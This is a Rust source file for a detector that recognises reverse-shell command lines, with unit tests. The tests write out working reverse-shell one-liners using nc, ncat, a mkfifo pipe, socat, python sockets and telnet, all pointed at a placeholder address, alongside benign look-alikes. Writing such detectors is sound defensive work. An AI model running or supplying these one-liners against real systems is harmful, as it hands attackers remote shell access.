//! Command lines that give a remote machine a shell, in any order of words.

/// Whether a command line does.
pub(super) fn is_reverse(text: &str) -> bool {
    const LONGEST: usize = 4096;
    if !(8..=LONGEST).contains(&text.len()) {
        return false;
    }
    let lower = text.to_ascii_lowercase();
    let has = |part: &str| lower.contains(part);
    let mut words = lower.split(|c: char| !(c.is_ascii_alphanumeric() || "/.-_:>&".contains(c)));
    let program = |word: &str| word.rsplit('/').next().unwrap_or(word).to_owned();
    let names: Vec<String> = words.by_ref().map(program).collect();
    let any = |known: &[&str]| names.iter().any(|name| known.contains(&name.as_str()));
    let shell = any(&[
        "sh",
        "bash",
        "zsh",
        "dash",
        "cmd",
        "cmd.exe",
        "powershell",
        "pwsh",
    ]);
    if !shell {
        return false;
    }
    let relay = any(&["nc", "ncat", "netcat", "nc.traditional", "telnet"]);
    let hands_over = any(&["-e", "-c", "--exec", "--sh-exec"]) || has("-e/bin/");
    let piped = (has("mkfifo") || has("mknod")) && (relay || has("s_client"));
    let socat = any(&["socat"]) && has("exec:") && has("tcp");
    // An interpreter with a socket of its own.
    let script = (has("socket") || has("fsockopen"))
        && (has("subprocess")
            || has("pty.spawn")
            || has("dup2")
            || has("exec(")
            || has("open(std"))
        && (has("connect") || has("fsockopen") || has("inet"));
    relay && hands_over || piped || socat || script
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Guards every order of words that is known, and commands that look
    /// alike.
    #[test]
    fn command_lines() {
        for text in [
            "nc 192.0.2.1 4444 -e /bin/sh",
            "ncat --exec /bin/bash 192.0.2.1 4444",
            "mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 192.0.2.1 4444 > /tmp/f",
            "socat tcp-connect:192.0.2.1:4444 exec:'bash -li',pty",
            "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((h,p));os.dup2(s.fileno(),0);pty.spawn(\"sh\")'",
            "telnet 192.0.2.1 4444 | /bin/sh -c",
        ] {
            assert!(is_reverse(text), "{text}");
        }
        for text in [
            "bash -c 'make -e'",
            "nc -z localhost 5432",
            "the shell of the socket",
            "sh -c 'exec socket-activate'",
        ] {
            assert!(!is_reverse(text), "{text}");
        }
    }
}
